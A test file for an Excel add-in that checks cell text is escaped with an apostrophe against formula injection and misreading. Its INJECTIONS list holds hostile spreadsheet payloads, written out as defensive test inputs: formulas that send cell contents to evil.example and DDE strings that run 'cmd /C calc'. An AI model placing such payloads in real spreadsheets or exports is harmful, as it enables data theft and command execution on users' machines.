import fc from "fast-check";
import { entered, restoring, textContent } from "../../src/plan/content";
import { openWorkbook, type OfficeInNode } from "../support/officeInNode";
import { writeSheet } from "../../src/excel/sheets/writeSheet";

/** OWASP, "CSV Injection": what a cell must not begin with, and payloads from there and from PayloadsAllTheThings. */
const INJECTIONS = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1"],
  ...["＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1"],
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "=1+1+cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")A0',
  "-2+3+cmd|' /C calc'!A0",
];
/** Text that Excel would take for something else than text. */
const MISREAD = [
  ...["360", "1-2", "3/4", "May 2025", "2025-09-22", "10%", "$5", "(5)", "1e5", "TRUE", "false"],
  ...["'t Hooft", "''", "'", "12:30"],
];
const PLAIN = [
  "In 2026 Nvidia lends more than before",
  "Nvidia",
  "Société Générale",
  "日本",
  "xAI",
  "letter of intent",
  "",
];

const typed = (text: string): string => entered(textContent(text));

describe("a text on its way to a cell", () => {
  test.each([...INJECTIONS, ...MISREAD, "#N/A", "- of which", "@23.28", "2027-01"])(
    "%p gets an apostrophe",
    (text) => {
      expect(typed(text)).toBe(`'${text}`);
    },
  );

  test.each(PLAIN)("%p is left as it is", (text) => {
    expect(typed(text)).toBe(text);
  });

  test("formulas, numbers and error values of a plan are no texts", () => {
    expect(["=A1", 3, "#N/A", ""].map(entered)).toEqual(["=A1", 3, "#N/A", ""]);
  });

  test("what was read is restored as what it was", () => {
    expect(restoring("=A1", 5)).toBe("=A1");
    expect(restoring("=A1", "=A1")).toBe("'=A1");
    expect(restoring("2027-01", "2027-01")).toBe("'2027-01");
    expect(restoring("#N/A", "#N/A")).toBe("#N/A");
    expect(restoring(true, true)).toBe(true);
  });
});

describe("written to cells", () => {
  let office: OfficeInNode;
  beforeAll(async () => {
    office = await openWorkbook();
  });
  afterAll(() => {
    office.dispose();
  });

  async function shown(texts: readonly string[], format: string): Promise<unknown[]> {
    return Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Sheet1");
      const address = `A1:A${texts.length}`;
      writeSheet(context, {
        ...{ name: "Sheet1", tabColor: "#000000", widths: [], looks: [], aligned: [], choices: [] },
        numberFormats: [{ range: address, format }],
        blocks: [{ at: "A1", rows: texts.map((text) => [textContent(text)]) }],
      });
      const range = sheet.getRange(address);
      range.load({ values: true, valueTypes: true });
      await context.sync();
      expect(new Set(range.valueTypes.flat())).toEqual(new Set(["String"]));
      return range.values.flat() as unknown[];
    });
  }

  test.each(["General", "@", "0.0%"])(
    "known traps are the same text, in format %s",
    async (format) => {
      const texts = [...INJECTIONS, ...MISREAD, ...PLAIN].filter((text) => text !== "");
      expect(await shown(texts, format)).toEqual(texts);
    },
  );

  test("any text is the same text", async () => {
    const start = fc.constantFrom("", "=", "+", "-", "@", "'", "#", "1", "(", "May ", "‏");
    const text = fc
      .tuple(start, fc.string({ minLength: 1, maxLength: 40, unit: "grapheme" }))
      .map((parts) => parts.join(""));
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 40, maxLength: 40 }), async (texts) => {
        expect(await shown(texts, "General")).toEqual(texts);
      }),
      { numRuns: 5 },
    );
  });
});
